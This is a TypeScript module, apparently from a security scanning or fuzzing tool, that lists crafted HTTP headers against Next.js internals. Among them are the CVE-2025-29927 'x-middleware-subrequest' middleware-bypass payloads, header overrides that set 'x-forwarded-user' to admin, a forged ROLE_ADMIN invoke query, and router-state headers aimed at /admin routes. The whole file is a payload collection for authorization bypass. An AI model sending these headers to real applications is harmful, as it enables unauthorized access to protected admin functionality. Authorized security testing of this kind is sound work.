import { one, type HeaderTrick } from './header-trick.ts'

const five = (name: string): string => Array.from({ length: 5 }, () => name).join(':')

/** Headers that Next.js sends to itself. @see CVE-2025-29927 */
export const nextInternals: readonly HeaderTrick[] = [
  ...['middleware', 'src/middleware', 'pages/_middleware', 'proxy', 'src/proxy'].flatMap((name) =>
    one('x-middleware-subrequest', name, five(name)),
  ),
  ...one('x-middleware-subrequest-id', '1'),
  ...['x-middleware-next', 'x-middleware-skip', 'x-middleware-prefetch', 'x-middleware-invoke'].flatMap(
    (name) => one(name, '1'),
  ),
  ...one('x-middleware-rewrite', '/static'),
  [
    ['x-middleware-override-headers', 'cookie,x-forwarded-user'],
    ['x-middleware-request-x-forwarded-user', 'admin'],
  ],
  ...one('rsc', '1'),
  [
    ['rsc', '1'],
    ['next-router-prefetch', '1'],
  ],
  ...one('next-router-prefetch', '1', '2'),
  ...['/_tree', '/_index', '/admin', '/admin/__PAGE__', '/_head'].map((segment): HeaderTrick => [
    ['rsc', '1'],
    ['next-router-prefetch', '1'],
    ['next-router-segment-prefetch', segment],
  ]),
  [
    ['rsc', '1'],
    [
      'next-router-state-tree',
      encodeURIComponent('["",{"children":["admin",{"children":["__PAGE__",{}]}]},null,"refetch"]'),
    ],
  ],
  ...one('next-router-state-tree', 'x', '%', '%5B%5D'),
  ...one('next-url', '/static', '/admin'),
  ...['x-nextjs-data', 'x-nextjs-postponed', 'next-resume', 'next-instant-navigation-testing'].flatMap(
    (name) => one(name, '1'),
  ),
  ...one('next-action', 'x', '0'.repeat(40), '7f'.repeat(21)),
  ...[
    'x-invoke-path',
    'x-invoke-output',
    'x-matched-path',
    'x-nextjs-matched-path',
    'x-nextjs-rewritten-path',
  ].flatMap((name) => one(name, '/static', '/admin')),
  ...one('x-invoke-status', '200', '404'),
  ...one('x-invoke-query', '%7B%22role%22%3A%22ROLE_ADMIN%22%7D'),
  ...one('x-invoke-error', '%7B%7D'),
  ...one('x-now-route-matches', '1=admin', 'nxtPslug=admin'),
  ...one('x-prerender-revalidate', 'x'),
  ...one('x-prerender-bypass-mode', 'static'),
  ...one('x-next-revalidated-tags', 'x'),
]
